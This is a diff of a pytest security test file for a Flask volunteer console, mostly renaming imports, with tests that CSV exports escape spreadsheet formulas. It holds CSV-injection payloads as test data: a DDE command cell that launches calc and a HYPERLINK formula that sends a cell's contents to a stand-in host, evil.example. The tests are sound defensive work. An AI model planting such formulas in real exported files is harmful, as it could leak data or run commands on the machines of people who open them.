@@ -9,18 +9,19 @@ import pytest
 from flask.testing import FlaskClient
 from sqlalchemy import select
 
-from bot.content import spreadsheet
-from bot.services import Services
-from bot.settings import ROOT
-from bot.store import announcements, gatherings
-from bot.web.console import new_password
+from bot.base import csv_export
+from bot.base.settings import ROOT
+from bot.runtime import Services
+from bot.store.announcements import announcements
+from bot.store.meetings import meetings
+from bot.web.console.registration import new_password
 from tests.announcements.conftest import District
 from tests.conftest import Family
-from tests.console.conftest import announced, busy, district, gathered
 from tests.roster.conftest import Roster, roster
 from tests.security.pages import crawl, fill, kind_of, look
-from tests.test_console import log_in
-from tests.test_login import cheap_passwords
+from tests.web.console.conftest import announced, busy, district, gathered
+from tests.web.console.test_console import log_in
+from tests.web.console.test_login import cheap_passwords
 
 __all__ = ["announced", "busy", "cheap_passwords", "district", "gathered", "roster"]  # these fixtures hold here too
 
@@ -90,7 +91,7 @@ def test_every_field_of_every_form_stays_text(
     pages = crawl(client, ["/console/"])
     with services.database.read() as db:
         codes = [f"/m/{one}" for one in db.execute(select(announcements.announcements.c.code)).scalars()]
-        codes += [f"/g/{one}" for one in db.execute(select(gatherings.gatherings.c.code)).scalars()]
+        codes += [f"/g/{one}" for one in db.execute(select(meetings.gatherings.c.code)).scalars()]
     public = [page for path in codes for page in (look(client, path), look(client, f"{path}/kit")) if page]
     assert len(pages) > 40 and public
     assert {page.path: page.dangers for page in [*pages, *public] if page.dangers} == {}
@@ -107,8 +108,8 @@ def log_in_without_token(client: FlaskClient, services: Services) -> int:
 
 @pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1", "=cmd|' /C calc'!A0"])
 def test_no_cell_is_a_formula(cell: str) -> None:
-    assert spreadsheet.tame(cell) == "'" + cell and spreadsheet.tame(-3) == "-3" and spreadsheet.tame(None) == ""
-    assert spreadsheet.line([cell, "plain", 4, None]).startswith(("'", "\"'"))
+    assert csv_export.tame(cell) == "'" + cell and csv_export.tame(-3) == "-3" and csv_export.tame(None) == ""
+    assert csv_export.line([cell, "plain", 4, None]).startswith(("'", "\"'"))
 
 
 def test_nobody_else_writes_csv() -> None:
@@ -117,21 +118,23 @@ def test_nobody_else_writes_csv() -> None:
         for path in (ROOT / "bot").rglob("*.py")
         if "csv.writer" in (text := path.read_text()) or "DictWriter" in text
     ]
-    assert writers == [ROOT / "bot/content/spreadsheet.py"]
+    assert writers == [ROOT / "bot/base/csv_export.py"]
 
 
 @pytest.mark.long
 def test_a_familys_question_is_no_formula_in_the_file(services: Services, client: FlaskClient, gathered: None) -> None:
-    from bot.store import questions
-    from bot.store.db import now
+    from bot.base.database import now
+    from bot.store.meetings import meeting_questions
 
     with services.database.write() as db:
-        questions.ask(db, services.database.vault, 1, '=HYPERLINK("https://evil.example/"&A1)', "es", now().date())
+        meeting_questions.ask(
+            db, services.database.vault, 1, '=HYPERLINK("https://evil.example/"&A1)', "es", now().date()
+        )
     assert log_in(client, "root", new_password(services, "root", "administrator", "ana_ruiz")) == 302
     files = [client.get(f"/console/gatherings/1/{one}.csv").text for one in ("questions", "families")]
     files += [client.get(f"/console/{one}.csv").text for one in ("attendance", "agents/drilled")]
     assert "'=HYPERLINK" in files[0]
-    assert not [row for file in files for row in file.splitlines() if row.lstrip('"').startswith(spreadsheet.FORMULA)]
+    assert not [row for file in files for row in file.splitlines() if row.lstrip('"').startswith(csv_export.FORMULA)]
 
 
 def test_a_report_of_a_roster_is_no_formula(roster: Roster, tmp_path: Path) -> None:
